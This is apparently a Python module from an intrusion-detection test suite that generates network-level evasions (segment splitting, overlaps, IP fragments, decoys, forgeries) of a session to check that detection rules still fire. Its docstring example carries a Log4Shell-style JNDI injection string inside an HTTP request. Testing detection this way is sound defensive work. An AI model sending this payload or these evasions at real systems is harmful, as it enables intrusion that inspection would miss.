"""Say the same as a session, in all the ways in which an attacker would, so that no inspection sees it.

`evasions` takes what client and server say, as `ids.testing.Session.tcp` does, and gives one `Evasion` after the other:
each has a name, a family, the policies of the hosts that get the same bytes by it, and the steps of a script. `frames`
makes Ethernet frames of one, `play` plays it to a session, so that the test of a rule can be::

    for evasion in evasions(b"GET /?x=${jndi:ldap://a/b} HTTP/1.1\\r\\nHost: www.example.org\\r\\n\\r\\n"):
        session = Session("rules.paths=[rules/base]", rules=RulesPlugin())
        play(session, evasion)
        assert 1000081 in session.sids, evasion.name

What a policy makes of overlaps is computed (`policies`), everything else is tried: the tests play each evasion to a
real Linux host with nginx, and hold it against ``linux`` and ``nginx`` among its policies. `Evasion.unchecked` says why
where that cannot be.

`conversation` has the session as text; `segments`, `overlaps`, `decoys`, `openings`, `forgeries`, `fragments`,
`wrappings` and `requests` are the families, `steps` their language, `packets` its bytes, `dialogue` the interpreter.
"""

from collections.abc import Iterator

from ids.testing.evade.conversation import MSS, Conversation, conversation
from ids.testing.evade.decoys import decoys
from ids.testing.evade.dialogue import Dialogue, frames
from ids.testing.evade.forgeries import forgeries
from ids.testing.evade.fragments import fragments
from ids.testing.evade.openings import openings
from ids.testing.evade.overlaps import overlaps
from ids.testing.evade.policies import POLICIES
from ids.testing.evade.requests import SERVERS, requests
from ids.testing.evade.segments import segments
from ids.testing.evade.steps import Await, Evasion, Event, Pause, Segment
from ids.testing.evade.wrappings import wrappings
from ids.testing.session import Said, Session

__all__ = [
    "FAMILIES", "POLICIES", "SERVERS", "Await", "Conversation", "Dialogue", "Evasion", "Event", "Pause", "Segment",
    "conversation", "evasions", "frames", "play",
]  # fmt: skip

FAMILIES = {
    "segments": segments, "overlaps": overlaps, "decoys": decoys, "openings": openings, "fragments": fragments,
    "forgeries": forgeries, "wrappings": wrappings, "requests": requests,
}  # fmt: skip


def evasions(*said: bytes | Said, families: tuple[str, ...] = ()) -> Iterator[Evasion]:
    """Give the ways to have this conversation; plain bytes are the client's, whose last words are what is hidden.

    ``families`` (default: all) are names in `FAMILIES`. What needs the client's words in one segment is left out where
    they do not fit one (`MSS`). Raises `ValueError` where the client says nothing.
    """
    talk = conversation(*said)
    for family in families or FAMILIES:
        for evasion in FAMILIES[family](talk):
            if all(len(step.data) <= MSS for step in evasion.steps if isinstance(step, Segment)):
                yield evasion


def play(session: Session, evasion: Evasion, dport: int = 80) -> None:
    """Play an evasion to a session, with its pauses; the server answers on paper."""
    last = 0
    for now, frame in frames(evasion, dport=dport):
        if now - last > 1_000_000_000:
            session.wait((now - last) / 1e9)
        session.frames(frame)
        last = now
